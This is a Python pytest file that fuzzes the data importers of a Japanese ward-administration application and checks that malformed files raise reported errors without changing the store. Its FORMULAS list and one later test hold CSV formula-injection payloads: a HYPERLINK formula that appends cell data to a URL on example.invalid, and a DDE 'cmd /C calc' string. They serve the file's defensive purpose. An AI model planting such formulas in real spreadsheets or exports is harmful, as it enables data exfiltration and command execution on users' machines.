"""Bad input never crashes an importer: property-based fuzzing of every importer.

Each importer gets a valid file of its kind, then random bytes, truncations, the text in the
wrong encoding, huge fields, formula-like cells (``=HYPERLINK(…)``) and flipped bytes.  Whatever
comes in, the importer either imports it or raises a :class:`WardError` (a reported error, the
CLI's exit status 2–4) — never any other exception — and after an error the store is exactly
as before (compared by a full dump).  A formula-like cell that is otherwise valid is stored as
the text it is: nothing in the store evaluates it (exports neutralise it: tests/test_exports.py).

Example counts stay modest (the suite must stay fast); a failure prints the input that caused it.
"""

from __future__ import annotations

import csv
import io
import json
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from address_samples import ABR_TOWN, abr_town, isj_block, write_abr, write_isj_block
from core_helpers import dump_db
from data_factory import TODAY, base_extract, write_csv
from geo_samples import FACILITIES, FACILITY_HEADER, cell
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from wardapp.address.dictionary import import_addresses
from wardapp.errors import ConfigError, WardError
from wardapp.geo.layers import import_layer
from wardapp.mappack import import_map_pack
from wardapp.registry.importer import import_registry
from wardapp.security import SYSTEM
from wardapp.store import Store, open_store
from wardapp.welfare import import_welfare

FUZZ = settings(max_examples=25, deadline=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                       HealthCheck.data_too_large])

FORMULAS = ['=HYPERLINK("http://example.invalid/?d="&A1,"詳細")', "=1+1", "+81-3", "-2+3", "@SUM(A1:A9)",
            "=cmd|' /C calc'!A0", "\t=1"]


# ---------------------------------------------------------------------------------- valid seeds


def _csv_bytes(header: list[str], rows: list[list[str]], encoding: str) -> bytes:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(header)
    w.writerows(rows)
    return buf.getvalue().encode(encoding)


def registry_seed(tmp: Path) -> bytes:
    return write_csv(tmp / "seed-registry.csv", base_extract(), encoding="cp932").read_bytes()


def welfare_seed(tmp: Path) -> bytes:
    rows = [["0000000001", "要介護認定", "要介護3", "2024-04-01", "2026-03-31"],
            ["0000000002", "身体障害者手帳", "2級", "2008-04-01", ""],
            ["0000000005", "妊娠", "", "2025-01-10", "2025-08-20"],
            ["0000000007", "日本語支援", "ベトナム語", "2024-04-01", ""]]
    return _csv_bytes(["宛名番号", "種別", "区分", "開始日", "終了日"], rows, "cp932")


def isj_seed(tmp: Path) -> bytes:
    rows = [isj_block("桜台一丁目", str(n), 35.44 + n * 1e-4, 139.60 + n * 1e-4) for n in range(1, 6)]
    return write_isj_block(tmp / "seed-isj.csv", rows).read_bytes()


def facility_seed(tmp: Path) -> bytes:
    return _csv_bytes(FACILITY_HEADER, FACILITIES, "utf-8")


def abr_seed(tmp: Path) -> bytes:
    rows = [abr_town("0001001", "桜台", "一丁目", "1"), abr_town("0002000", "新田"),
            abr_town("0003002", "みどり", "二丁目", "2", ablt="2023-03-31")]
    return write_abr(tmp / "mt_town_city119997.csv", ABR_TOWN, rows).read_bytes()


def zipped(name: str, seed_of: Callable[[Path], bytes]) -> Callable[[Path], bytes]:
    """A seed as published: one file inside a zip."""
    def seed(tmp: Path) -> bytes:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
            zf.writestr(name, seed_of(tmp))
        return buf.getvalue()

    return seed


def geojson_seed(tmp: Path) -> bytes:
    feats = []
    for i, (name, col) in enumerate((("みどり一丁目", 0), ("桜台一丁目", 1), ("新田", 2))):
        ring = [list(c) for c in cell(col, 0).exterior.coords]
        feats.append({"type": "Feature", "properties": {"S_NAME": name, "KEY_CODE": f"1199900{i}", "A31_205": i + 1},
                      "geometry": {"type": "Polygon", "coordinates": [ring]}})
    return json.dumps({"type": "FeatureCollection", "features": feats}, ensure_ascii=False).encode("utf-8")


def manifest_seed(tmp: Path) -> bytes:
    (tmp / "facilities.csv").write_bytes(facility_seed(tmp))
    return ('format = 2\nname = "架空の地図パック"\nfictional = true\n\n'
            '[[imports]]\nimporter = "layer"\nkind = "shelter"\ntitle = "避難所"\nfiles = ["facilities.csv"]\n'
            ).encode("utf-8")


# ---------------------------------------------------------------------------------- mutations


def _as_text(seed: bytes) -> str:
    for enc in ("utf-8", "cp932"):
        try:
            return seed.decode(enc)
        except UnicodeDecodeError:
            pass
    return seed.decode("latin-1")


def _replace_cell(seed: bytes, value: str, at: int) -> bytes:
    """The seed with one cell (counted over all lines after the header) replaced by ``value``."""
    text = _as_text(seed)
    lines = text.splitlines(keepends=True)
    if len(lines) < 2:
        return (text + value).encode("utf-8")
    i = 1 + at % (len(lines) - 1)
    cells = lines[i].rstrip("\r\n").split(",")
    cells[at % len(cells)] = '"' + value.replace('"', '""') + '"'
    lines[i] = ",".join(cells) + "\r\n"
    return "".join(lines).encode("utf-8" if seed[:3] == b"\xef\xbb\xbf" or _is_utf8(seed) else "cp932",
                                 errors="replace")


def _is_utf8(b: bytes) -> bool:
    try:
        b.decode("utf-8")
    except UnicodeDecodeError:
        return False
    return True


def mutations(seed: bytes) -> st.SearchStrategy[bytes]:
    n = len(seed)
    return st.one_of(
        st.binary(max_size=4096),  # random bytes
        st.integers(0, max(n - 1, 0)).map(lambda k: seed[:k]),  # truncated
        st.sampled_from(["utf-16", "euc_jp", "utf-32", "iso2022_jp", "latin-1", "utf-8", "cp932"]).map(
            lambda enc: _as_text(seed).encode(enc, errors="replace")),  # wrong (or right) encoding
        st.tuples(st.integers(1_000, 400_000), st.integers(0, 50), st.sampled_from("Aあ,\"\n\x00")).map(
            lambda t: _replace_cell(seed, t[2] * t[0], t[1])),  # huge field
        st.tuples(st.sampled_from(FORMULAS), st.integers(0, 50)).map(
            lambda t: _replace_cell(seed, t[0], t[1])),  # formula-like cell
        st.lists(st.tuples(st.integers(0, max(n - 1, 0)), st.integers(0, 255)), min_size=1, max_size=8).map(
            lambda flips: _flip(seed, flips)),  # flipped bytes
    )


def _flip(seed: bytes, flips: list[tuple[int, int]]) -> bytes:
    b = bytearray(seed)
    for pos, val in flips:
        if b:
            b[pos % len(b)] = val
    return bytes(b)


# ---------------------------------------------------------------------------------- the property


def _check(store: Store, db: Path, run: Callable[[], Any], *, unchanged_on: type[WardError] = WardError) -> None:
    before = dump_db(db)
    try:
        run()
    except unchanged_on:
        assert dump_db(db) == before, "a refused import changed the store"
    except WardError:
        pass  # a map pack keeps the entries imported before the one that failed (documented)
    # Any other exception fails the test: it would be an unhandled crash in the GUI.


@pytest.fixture
def ward(tmp_path: Path) -> Any:
    """A store with the base registry extract (persons 1–7), and its path."""
    db = tmp_path / "fuzz.sqlite3"
    store = open_store(db)
    import_registry(store, write_csv(tmp_path / "base.csv", base_extract(), encoding="cp932"), today=TODAY, actor=SYSTEM)
    try:
        yield store, db
    finally:
        store.close()


def _fuzz(tmp_path: Path, seed_of: Callable[[Path], bytes], name: str,
          call: Callable[[Path], Any], ward: Any, **kw: Any) -> None:
    store, db = ward
    seed = seed_of(tmp_path)
    target = tmp_path / name

    @FUZZ
    @given(data=st.one_of(st.just(seed), mutations(seed)))
    def prop(data: bytes) -> None:
        target.write_bytes(data)
        _check(store, db, lambda: call(target), **kw)

    prop()


def test_registry_importer(tmp_path: Path, ward: Any) -> None:
    store, _ = ward
    _fuzz(tmp_path, registry_seed, "registry.csv", lambda p: import_registry(store, p, today=TODAY, actor=SYSTEM), ward)


def test_registry_importer_lenient(tmp_path: Path, ward: Any) -> None:
    store, _ = ward
    _fuzz(tmp_path, registry_seed, "registry.csv",
          lambda p: import_registry(store, p, today=TODAY, lenient=True, actor=SYSTEM), ward)


def test_welfare_importer(tmp_path: Path, ward: Any) -> None:
    store, _ = ward
    _fuzz(tmp_path, welfare_seed, "welfare.csv", lambda p: import_welfare(store, p, today=TODAY, actor=SYSTEM), ward)


def test_address_importer(tmp_path: Path, ward: Any) -> None:
    store, _ = ward
    _fuzz(tmp_path, isj_seed, "13000-17.0a.csv", lambda p: import_addresses(store, [p], today=TODAY, actor=SYSTEM), ward)


def test_abr_address_importer(tmp_path: Path, ward: Any) -> None:
    store, _ = ward
    _fuzz(tmp_path, abr_seed, "mt_town_city119997.csv", lambda p: import_addresses(store, [p], today=TODAY, actor=SYSTEM), ward)


def test_address_importer_zip(tmp_path: Path, ward: Any) -> None:
    store, _ = ward
    _fuzz(tmp_path, zipped("13000-17.0a.csv", isj_seed), "13000-17.0a.zip", lambda p: import_addresses(store, [p], today=TODAY, actor=SYSTEM), ward)


def test_facility_layer_importer(tmp_path: Path, ward: Any) -> None:
    store, _ = ward
    _fuzz(tmp_path, facility_seed, "shelters.csv", lambda p: import_layer(store, p, kind="shelter", actor=SYSTEM), ward)


def test_zipped_layer_importer(tmp_path: Path, ward: Any) -> None:
    store, _ = ward
    _fuzz(tmp_path, zipped("A31-10-23_01.geojson", geojson_seed), "A31.zip",
          lambda p: import_layer(store, p, kind="flood", actor=SYSTEM), ward)


@pytest.mark.parametrize("kind", ["boundary", "flood"])
def test_geojson_layer_importer(tmp_path: Path, ward: Any, kind: str) -> None:
    store, _ = ward
    _fuzz(tmp_path, geojson_seed, "layer.geojson", lambda p: import_layer(store, p, kind=kind, actor=SYSTEM), ward)  # type: ignore[arg-type]


def test_map_pack_manifest(tmp_path: Path, ward: Any) -> None:
    """A broken manifest imports nothing (ConfigError, store unchanged); a mutated one that still
    names the valid file imports it."""
    store, _ = ward
    _fuzz(tmp_path, manifest_seed, "manifest.toml", lambda p: import_map_pack(store, p, actor=SYSTEM), ward,
          unchanged_on=ConfigError)


def test_formula_cells_are_stored_as_text(tmp_path: Path, ward: Any) -> None:
    """A registry name that looks like a formula is data: stored as written, never evaluated."""
    from sqlalchemy import select

    from wardapp.store import Person

    store, _ = ward
    rows = base_extract()
    rows[3] = {**rows[3], "方書": '=HYPERLINK("http://example.invalid","x")'}
    import_registry(store, write_csv(tmp_path / "f.csv", rows, encoding="utf-8"), today=TODAY, actor=SYSTEM)
    with store.session() as s:
        assert s.scalar(select(Person.building).where(Person.person_no == "0000000004")) == \
            '=HYPERLINK("http://example.invalid","x")'


def _damaged_zips(member: str, payload: bytes) -> dict[str, bytes]:
    """Zips damaged the ways fuzzing found crashes in (each once an unhandled exception)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(member, payload)
    good = buf.getvalue()
    start = 30 + len(member.encode())
    corrupt = bytearray(good)
    corrupt[start:start + 8] = bytes(8)  # zlib.error
    version = bytearray(good)
    cd = version.find(b"PK\x01\x02")
    struct.pack_into("<H", version, cd + 6, 64)  # NotImplementedError: zip file version 6.4
    cd = good.find(b"PK\x01\x02")
    short = bytearray(good[:start + 10] + good[cd:])  # member cut short, sizes kept
    struct.pack_into("<I", short, short.find(b"PK\x05\x06") + 16, start + 10)
    nameless = io.BytesIO()
    with zipfile.ZipFile(nameless, "w") as zf:
        zf.writestr(zipfile.ZipInfo(""), payload)  # IndexError in ZipInfo.is_dir
    return {"corrupt deflate": bytes(corrupt), "zip version": bytes(version), "cut short": bytes(short),
            "nameless member": nameless.getvalue()}


@pytest.mark.parametrize("damage", ["corrupt deflate", "zip version", "cut short", "nameless member"])
def test_damaged_zips_are_reported(tmp_path: Path, ward: Any, damage: str) -> None:
    store, db = ward
    before = dump_db(db)
    isj = tmp_path / "13000-17.0a.zip"
    isj.write_bytes(_damaged_zips("13000-17.0a.csv", isj_seed(tmp_path))[damage])
    with pytest.raises(WardError, match="zip"):
        import_addresses(store, [isj], today=TODAY, actor=SYSTEM)
    layer = tmp_path / "A31.zip"
    layer.write_bytes(_damaged_zips("A31.geojson", geojson_seed(tmp_path))[damage])
    with pytest.raises(WardError):
        import_layer(store, layer, kind="flood", actor=SYSTEM)
    assert dump_db(db) == before
